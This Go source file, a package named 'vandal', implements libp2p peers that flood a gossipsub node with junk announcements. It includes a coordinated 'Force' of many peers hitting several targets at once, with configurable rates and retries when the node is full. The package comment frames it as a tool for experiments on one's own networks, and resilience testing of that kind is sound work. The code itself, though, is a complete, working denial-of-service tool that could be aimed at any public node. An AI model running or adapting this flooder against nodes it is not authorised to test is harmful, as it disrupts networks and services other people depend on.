// Package vandal is peers that attack a public node with bytes alone, for experiments on
// networks of one's own: a flood is of announcements which nobody can have passed on, a Siege
// of streams that say nothing.
//
//  1. Open makes a peer that speaks just enough gossipsub for it;
//  2. Join connects it with its target;
//  3. Flood sends junk at a rate for a while, or until it is thrown out.
//
// What it sends costs it nothing to make and the node little to refuse: ninety bytes, no
// two the same.
package vandal

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	quic "github.com/libp2p/go-libp2p/p2p/transport/quic"
	"github.com/libp2p/go-libp2p/p2p/transport/quicreuse"
	quicgo "github.com/quic-go/quic-go"
	"go.uber.org/fx"
)

// batch is how many announcements go into one RPC.
const batch = 250

// Bounds of waiting.
const (
	openWait  = 30 * time.Second
	writeWait = 10 * time.Second
)

// meshsub is what every edition of gossipsub speaks.
const meshsub = protocol.ID("/meshsub/1.1.0")

// At has a peer send from an address of this machine.
func At(ip net.IP) libp2p.Option {
	start := func(l fx.Lifecycle, reset quicgo.StatelessResetKey, token quicgo.TokenGeneratorKey, opts ...quicreuse.Option) (*quicreuse.ConnManager, error) {
		m, err := quicreuse.NewConnManager(reset, token, opts...)
		if err == nil {
			l.Append(fx.StopHook(m.Close)) // libp2p closes only one that it made itself
		}
		return m, err
	}
	return libp2p.QUICReuse(start, quicreuse.OverrideListenUDP(func(network string, at *net.UDPAddr) (net.PacketConn, error) {
		return net.ListenUDP(network, &net.UDPAddr{IP: ip, Port: at.Port})
	}))
}

// A Peer floods one node.
type Peer struct {
	host host.Host
	to   network.Stream
}

// Open makes a peer. options say where it is.
func Open(options ...libp2p.Option) (*Peer, error) {
	h, err := libp2p.New(append(options, libp2p.Transport(quic.NewTransport), libp2p.ResourceManager(&network.NullResourceManager{}),
		libp2p.DisableIdentifyAddressDiscovery(), libp2p.DisableRelay(), libp2p.DisableMetrics())...)
	if err != nil {
		return nil, fmt.Errorf("a flooding peer: %w", err)
	}
	h.SetStreamHandler(meshsub, func(s network.Stream) { _, _ = io.Copy(io.Discard, s) })
	return &Peer{host: h}, nil
}

// Close takes the peer off the network.
func (p *Peer) Close() error { return p.host.Close() }

// An Order is what one peer is to do.
type Order struct {
	Topic string
	Rate  int // announcements a second
	For   time.Duration
	First uint64 // number of the first: what two peers send must differ
}

// Flood carries an order out, and tells how much was sent. Who is thrown out has
// sent what he has sent. It comes after Join.
func (p *Peer) Flood(ctx context.Context, o Order) (sent int, err error) {
	s := p.to
	defer func() { _ = s.Reset() }()
	tick := time.NewTicker(max(time.Second*batch/time.Duration(max(o.Rate, 1)), time.Millisecond))
	defer tick.Stop()
	for end := time.Now().Add(o.For); time.Now().Before(end); {
		if err := s.SetWriteDeadline(time.Now().Add(writeWait)); err != nil {
			return sent, fmt.Errorf("flood: %w", err)
		}
		if _, err := s.Write(Junk(o.Topic, o.First+uint64(sent), batch)); err != nil {
			return sent, nil //nolint:nilerr // it was thrown out
		}
		sent += batch
		select {
		case <-ctx.Done():
			return sent, context.Cause(ctx)
		case <-tick.C:
		}
	}
	return sent, nil
}

// Join connects the peer with the node that it is to flood. It tries again while the node is
// full of others who come at the same time.
func (p *Peer) Join(ctx context.Context, to peer.AddrInfo) (err error) {
	ctx, cancel := context.WithTimeout(ctx, openWait)
	defer cancel()
	for {
		if err = p.host.Connect(ctx, to); err == nil {
			p.to, err = p.host.NewStream(ctx, to.ID, meshsub)
		}
		if err == nil {
			return nil
		}
		if sleep(ctx, again); ctx.Err() != nil {
			return fmt.Errorf("flood: %w", err)
		}
	}
}

// Force is peers that flood at once.
type Force struct {
	Peers   []*Peer
	Targets []peer.AddrInfo // peer i floods target i, from the first again where there are more peers
	Orders  []Order         // one for each target
}

// Join connects all of them.
func (f *Force) Join(ctx context.Context) error {
	return f.each(func(i int, p *Peer) error { return p.Join(ctx, f.Targets[i%len(f.Targets)]) })
}

// Flood has all of them carry out their orders, of round n, and tells how much was sent.
func (f *Force) Flood(ctx context.Context, n int) (sent int, err error) {
	var all atomic.Int64
	err = f.each(func(i int, p *Peer) error {
		o := f.Orders[i%len(f.Orders)]
		o.First = uint64(n)<<48 | uint64(i)<<32
		sent, err := p.Flood(ctx, o)
		all.Add(int64(sent))
		return err
	})
	return int(all.Load()), err
}

// Close takes all of them off the network.
func (f *Force) Close() error { return f.each(func(_ int, p *Peer) error { return p.Close() }) }

func (f *Force) each(do func(i int, p *Peer) error) error {
	var wg sync.WaitGroup
	errs := make([]error, len(f.Peers))
	for i, p := range f.Peers {
		wg.Go(func() { errs[i] = do(i, p) })
	}
	wg.Wait()
	return errors.Join(errs...)
}

// Junk is an RPC of gossipsub with n announcements that nobody can have passed on.
func Junk(topic string, first uint64, n int) []byte {
	var rpc []byte
	for i := range n {
		data := append(binary.BigEndian.AppendUint64(make([]byte, 0, 96), first+uint64(i)), make([]byte, 80)...)
		rpc = append(rpc, field(2, append(field(2, data), field(4, []byte(topic))...))...)
	}
	return append(binary.AppendUvarint(nil, uint64(len(rpc))), rpc...)
}

// field is one length-delimited field of a protobuf message.
func field(number byte, data []byte) []byte {
	return append(binary.AppendUvarint([]byte{number<<3 | 2}, uint64(len(data))), data...)
}
